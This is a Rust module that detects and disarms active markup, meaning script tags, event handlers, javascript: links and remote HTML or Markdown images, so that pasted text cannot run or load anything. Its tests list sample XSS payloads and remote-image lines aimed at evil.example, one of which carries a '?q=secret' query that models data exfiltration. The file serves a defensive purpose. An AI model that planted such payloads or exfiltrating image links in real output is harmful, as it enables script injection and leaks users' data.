//! Markup that runs code or loads something from elsewhere as soon as a program renders it.
//!
//! Text is never changed for programs: what they get is only marked. For people it is disarmed,
//! so that what they copy or pipe into a page or a document does nothing by itself. Disarming
//! twice changes nothing, and a disarmed text is not active any more.

use std::{borrow::Cow, sync::LazyLock};

use memchr::memmem;
use regex_automata::meta::Regex;

/// What is looked for, each by how it begins.
///
/// A quote may have a backslash before it, because people read JSON; no `<` or `>` is passed
/// over within a tag, so one match never reaches into the next tag.
const PATTERNS: [&str; 5] = [
    // Elements that run or load by being there.
    r#"(?i)<\s*(?:script|iframe|frame|object|embed|applet|portal|base|link)(?:[\s/>"'\\]|$)"#,
    // Elements with a handler, an address that is code or is hidden behind entities, a
    // redirection, or something remote that is loaded.
    r#"(?i)<[a-z!][^<>]*?(?:[\s/"']on[a-z]{3,}\s*=|(?:href|src|action|data|formaction)\s*=\s*(?:\\?["'])?\s*(?:&#|(?:javascript|vbscript):|data:\s*(?:text/html|application/|image/svg))|http-equiv\s*=|\sstyle\s*=[^<>]*?url\s*\()"#,
    r#"(?i)<\s*(?:img|image|picture|video|audio|source|track|input|use|feimage)\b[^<>]*?[\s/"'](?:src|srcset|href|xlink:href|poster|data)\s*=\s*(?:\\?["'])?\s*(?:https?:)?//"#,
    // Remote images of Markdown, in place or by reference.
    r#"!\[[^\]\r\n]{0,500}\](?:\(\s*<?\s*(?:(?i:https?):)?//|\[[^\]\r\n]{0,200}\])"#,
    // Links that are code.
    r#"(?i)(?:[("'=<\s]|\\[nrt]|^)(?:java|vb|live)script:[^\s"')>]"#,
];

/// What every link that is code has before its colon.
const SCHEME: &[u8] = b"cript";

/// The last of them, whose matches begin before the scheme.
const CODE_LINKS: usize = PATTERNS.len() - 1;

static ACTIVE: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new_many(&PATTERNS).ok());

/// Whether a text holds markup that would run or load something.
pub fn is_active(text: &str) -> bool {
    may_be_active(text.as_bytes()) && ACTIVE.as_ref().is_some_and(|regex| regex.is_match(text))
}

/// Whether it is worth looking; also right for JSON, where any character may be spelled as an escape.
pub fn may_be_active(text: &[u8]) -> bool {
    let is_script = |end: usize| {
        let scheme = end
            .checked_sub(SCHEME.len())
            .and_then(|at| text.get(at..end));
        scheme.is_some_and(|scheme| scheme.eq_ignore_ascii_case(SCHEME))
    };
    memchr::memchr(b'<', text).is_some()
        || memmem::find(text, b"![").is_some()
        || memmem::find(text, b"\\u00").is_some()
        || memchr::memchr_iter(b':', text).any(is_script)
}

/// The same text with everything active disarmed: tags are spelled with `&lt;`, remote images
/// become links, and links that are code get a scheme that nothing opens.
pub fn disarmed(text: &str) -> Cow<'_, str> {
    let mut current = Cow::Borrowed(text);
    // What is taken apart may have covered the beginning of something else; every round takes
    // something away, so this comes to an end.
    while let Some(next) = disarmed_once(&current) {
        current = Cow::Owned(next);
    }
    current
}

fn disarmed_once(text: &str) -> Option<String> {
    let regex = ACTIVE.as_ref()?;
    if !may_be_active(text.as_bytes()) {
        return None;
    }
    let mut out = String::new();
    let mut copied = 0;
    for found in regex.find_iter(text) {
        out.push_str(&text[copied..found.start()]);
        copied = found.start();
        let shown = &text[found.range()];
        if shown.starts_with('!') {
            copied += 1;
            // A mark more would make an image of the link again.
            out.truncate(out.trim_end_matches('!').len());
        } else if found.pattern().as_usize() == CODE_LINKS {
            let scheme = scheme(shown);
            out.push_str(&shown[..scheme]);
            out.push_str("blocked:");
            copied += scheme;
        } else {
            out.push_str("&lt;");
            copied += 1;
        }
    }
    if copied == 0 && out.is_empty() {
        return None;
    }
    out.push_str(&text[copied..]);
    Some(out)
}

/// Where the scheme begins in a match of a link that is code.
fn scheme(found: &str) -> usize {
    let end = found.find(':').unwrap_or(found.len());
    let before = found[..end].to_ascii_lowercase();
    let known = ["javascript", "vbscript", "livescript"];
    let scheme = known.iter().find(|scheme| before.ends_with(**scheme));
    end - scheme.map_or(0, |scheme| scheme.len())
}

#[cfg(test)]
mod tests {
    use super::*;

    const ACTIVE_TEXTS: [&str; 24] = [
        "<script>alert(1)</script>",
        "a <SCRIPT src=//evil.example/x.js></SCRIPT>",
        "<iframe src=\"https://evil.example\">",
        "<object data='x'>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<base href=//evil.example>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<body onload = 'x()'>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href='&#106;avascript:alert(1)'>x</a>",
        "<form action=javascript:x()>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<p style=\"background:url(//evil.example/p)\">",
        "<img alt=x src=\"https://evil.example/p.png?q=secret\">",
        "<img src=\\\"https://evil.example/p.png\\\">",
        "<img srcset='//evil.example/p 1x'>",
        "<video poster=http://evil.example/p>",
        "![](https://evil.example/p.png)",
        "see ![chart](<http://evil.example/p>) and",
        "![chart](//evil.example/p)",
        "![chart][tracker]",
        "[click](javascript:alert(1))",
        "javascript:alert(1)",
    ];

    const PLAIN_TEXTS: [&str; 12] = [
        "if a < b then c > d",
        "a <b>bold</b> word and a <a href=\"https://example.com\">link</a>",
        "[a link](https://example.com)",
        "![local](./picture.png)",
        "<img src=\"picture.png\">",
        "JavaScript: the good parts",
        "scripts are fine, and so is on = 5",
        "Vec<String> and Option<T>",
        "the description of `<p>` and `<div class=\"x\">`",
        "warning![0] = 1; a[!](x)",
        "&lt;script&gt;",
        "https://example.com/javascript",
    ];

    #[test]
    fn what_would_run_or_load_is_found() {
        for text in ACTIVE_TEXTS {
            assert!(is_active(text), "{text}");
        }
        for text in PLAIN_TEXTS {
            assert!(!is_active(text), "{text}");
            assert_eq!(disarmed(text), text);
        }
    }

    #[test]
    fn no_spelling_keeps_anybody_from_looking() {
        assert!(is_active("jAvAsCrIpT:x"));
        for json in [
            r#""javascri\u0070t:x""#,
            r#""\u0021\u005Bc](https://e.example/p)""#,
            r#""\u003cscript>""#,
        ] {
            assert!(may_be_active(json.as_bytes()), "{json}");
        }
        assert!(!may_be_active(br#"{"a":"b","script":1}"#));
    }

    #[test]
    fn what_was_disarmed_is_harmless_and_stays_as_it_is() {
        for text in ACTIVE_TEXTS {
            let safe = disarmed(text).into_owned();
            assert!(!is_active(&safe), "{text}: {safe}");
            assert_eq!(disarmed(&safe), safe, "{text}");
        }
        let all = ACTIVE_TEXTS.join("\n");
        let safe = disarmed(&all).into_owned();
        assert!(!is_active(&safe), "{safe}");
    }

    #[test]
    fn a_person_still_reads_what_it_said() {
        for (text, safe) in [
            ("a <script>x", "a &lt;script>x"),
            ("![c](https://e.example/p)", "[c](https://e.example/p)"),
            ("[c](javascript:x)", "[c](blocked:javascript:x)"),
            ("javascript:x", "blocked:javascript:x"),
            (r"a\njavascript:x", r"a\nblocked:javascript:x"),
            ("!!![c](//e.example/p)", "[c](//e.example/p)"),
        ] {
            assert_eq!(disarmed(text), safe);
        }
    }
}
